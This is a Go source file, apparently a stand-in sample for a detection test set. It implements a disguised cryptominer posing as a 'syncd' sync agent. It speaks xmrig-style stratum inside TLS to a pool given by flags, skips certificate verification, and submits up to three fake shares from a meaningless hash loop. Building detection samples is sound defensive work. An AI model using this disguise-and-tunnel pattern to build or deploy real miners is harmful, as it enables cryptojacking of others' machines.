// Wild-set stand-in: a Go "sync agent" that is really a miner (harmless: fake wallet,
// simulated pool, bounded). xmrig-style stratum inside TLS on 443 to a pool name taken from
// its flags; a short meaningless hash loop per job; three shares at most, 15 s at most.
package main

import (
	"bufio"
	"crypto/sha256"
	"crypto/tls"
	"encoding/json"
	"flag"
	"fmt"
	"net"
	"time"
)

func spin(seed string) string {
	sum := sha256.Sum256([]byte(seed))
	for i := 0; i < 400000; i++ {
		sum = sha256.Sum256(sum[:])
	}
	return fmt.Sprintf("%x", sum)
}

func main() {
	endpoint := flag.String("endpoint", "", "host:port")
	account := flag.String("account", "", "")
	flag.Parse()
	deadline := time.Now().Add(15 * time.Second)
	raw, err := net.DialTimeout("tcp", *endpoint, 5*time.Second)
	if err != nil {
		return
	}
	host, _, _ := net.SplitHostPort(*endpoint)
	conn := tls.Client(raw, &tls.Config{ServerName: host, InsecureSkipVerify: true})
	_ = conn.SetDeadline(deadline)
	enc := json.NewEncoder(conn)
	_ = enc.Encode(map[string]any{"id": 1, "jsonrpc": "2.0", "method": "login", "params": map[string]any{
		"login": *account, "pass": "sync01", "agent": "syncd/2.3", "algo": []string{"rx/0"},
	}})
	in := bufio.NewScanner(conn)
	in.Buffer(make([]byte, 64*1024), 64*1024)
	for share := 0; share < 3 && in.Scan(); share++ {
		var msg map[string]any
		_ = json.Unmarshal(in.Bytes(), &msg)
		_ = enc.Encode(map[string]any{"id": share + 2, "jsonrpc": "2.0", "method": "submit", "params": map[string]any{
			"id": "1", "job_id": fmt.Sprint(share), "nonce": fmt.Sprintf("%08x", share+77), "result": spin(in.Text()),
		}})
	}
	_ = conn.Close()
}
